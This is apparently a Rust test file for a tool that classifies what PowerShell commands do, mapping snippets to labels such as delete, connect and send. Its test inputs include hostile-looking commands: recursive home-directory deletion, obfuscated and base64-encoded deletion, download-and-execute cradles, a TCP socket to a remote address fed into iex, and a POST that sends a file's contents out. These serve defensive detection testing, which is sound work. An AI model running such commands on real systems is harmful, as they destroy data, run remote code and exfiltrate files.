//! Texts of PowerShell.

use crate::table::{check, lines};
use checkrein_code::Language;

#[test]
fn acts_and_mentions() {
    check(
        Language::PowerShell,
        &[
            ("Remove-Item ~ -Force -Recurse", &["delete -r «home»"]),
            ("rEmOvE-iTeM $HOME/x -rec", &["delete -r «home»/x"]),
            ("R`emove-It`em /x", &["delete /x"]),
            ("ri /a, /b -Force", &["delete /a", "delete /b"]),
            ("gci /x -r | ri -fo -r", &["delete -r /x/«*»"]),
            ("Get-ChildItem /x -Filter *.log | Remove-Item", &["delete /x/«*».log"]),
            ("gci /x | % { ri $_.FullName }", &["delete /x/«*»"]),
            ("foreach ($f in gci /x) { Remove-Item $f -Recurse }", &["delete -r /x/«*»"]),
            ("$p = '/x'; del \"$p/y\"", &["delete /x/y"]),
            ("if (Test-Path /x) { del /x }", &["delete /x"]),
            ("& 'Remove-Item' /x", &["delete /x"]),
            ("[IO.Directory]::Delete('/x', $true)", &["delete -r /x"]),
            (
                "Set-Content -Path a -Value x; 'y' | Out-File b -Append; echo z > c",
                &["write a", "append b", "write c"],
            ),
            ("Clear-Content x; [System.IO.File]::WriteAllText('y', 'z')", &["write x", "write y"]),
            (
                "Move-Item a b; Copy-Item -Path c -Destination d; gc e",
                &["move a | b", "copy c | d", "read e"],
            ),
            ("iex (iwr http://h/x).Content", &["connect http://h/x", "evaluate network"]),
            ("irm http://h/x | iex", &["connect http://h/x", "evaluate network"]),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://h/x')",
                &["connect http://h/x", "evaluate network"],
            ),
            ("iex 'Remove-Item /x'", &["delete /x"]),
            ("iex ('Remove' + '-Item /x')", &["delete /x"]),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gL3g=')))",
                &["delete /x"],
            ),
            (
                "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',9001); $s = $c.GetStream(); iex $d",
                &["connect 192.0.2.1:9001", "evaluate unknown"],
            ),
            (
                "Invoke-RestMethod -Uri http://h -Method Post -Body (gc /k -Raw)",
                &["read /k", "send http://h : /k"],
            ),
            ("Invoke-WebRequest http://h -OutFile /y", &["connect http://h", "write /y"]),
            ("Start-Process ls -ArgumentList '-l','/x'", &["run ls | -l | /x"]),
            ("git push origin main", &["run git | push | origin | main"]),
            ("cmd /c 'dir x'", &["run cmd | /c | dir x"]),
            ("gci env:", &["environment"]),
            ("Stop-Process -Id 1", &["kill"]),
            ("Stop-Process -Name shop", &["kill", "run pkill | -x | shop"]),
            ("Get-Process shop | Stop-Process", &["kill", "run pkill | -x | shop"]),
            ("cd /srv; ri x", &["delete /srv/x"]),
        ],
    );
    for source in [
        "Write-Host 'Remove-Item -Recurse /'",
        "# Remove-Item x\n<# del y #>",
        "Get-Process | Where-Object { $_.CPU -gt 5 } | Select-Object Name",
        "Remove-Item /x -WhatIf",
        "$x = 'Remove-Item /'; Write-Output $x",
        "$env:PATH -split ':'",
        "@'\nRemove-Item /x\n'@ | Write-Host",
    ] {
        assert_eq!(lines(Language::PowerShell, source), [""; 0], "{source}");
    }
}
